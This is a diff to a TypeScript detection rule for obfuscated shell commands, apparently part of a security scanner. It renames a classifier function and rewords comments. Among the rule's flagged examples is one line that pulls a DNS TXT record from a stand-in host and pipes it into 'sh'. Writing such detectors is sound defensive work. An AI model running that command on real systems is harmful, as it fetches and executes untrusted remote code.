@@ -39,7 +39,7 @@ export const commandObfuscation: Rule = {
     { ...interest, check: classifyCommand },
     ...windowsCommands('COMMAND_OBFUSCATION'),
   ],
-  scripts: () => [{ always: true, check: judge }],
+  scripts: () => [{ always: true, check: classifyScript }],
   examples: {
     flags: [
       shellCall('host -t txt a.files.example | cut -c 9- | sh'),
@@ -80,7 +80,7 @@ const interest = {
   assigning: true,
 }
 
-function judge({ index, codes, disguised }: ParsedScript): Severity | null {
+function classifyScript({ index, codes, disguised }: ParsedScript): Severity | null {
   if (codes.some(({ runsUnseen, code }) => runsUnseen === 'decoder' || runsDecodedCode(code)))
     return 'high'
   if (index().pipes.some(runsDecoded)) return 'high'
@@ -118,7 +118,7 @@ function evaluatesWhatItReads({ byName }: CommandIndex): boolean {
   )
 }
 
-/** A constant, or the output of a program in one line, goes through what nobody can follow into an interpreter. */
+/** A constant, or the output of a program in one line, goes through filters that cannot be followed into an interpreter. */
 function runsFiltered({ own, input }: Line): boolean {
   const [first] = own
   const last = own.at(-1)
@@ -166,7 +166,7 @@ function classifyCommand(command: Command): Severity | null {
   return decodedInSubstitution(command)
 }
 
-/** The line by which many write their history at once; what else runs stays as unknown as it was. */
+/** The common line that writes the history after each command; the rest of the value stays unknown. */
 const keepsHistory =
   /^\s{0,4}(?:history -[acnrw](?:\s{0,2};\s{0,2}|\s{0,2}$)){1,4}(?:\s{0,2}\uE000\s{0,2})?$/
 
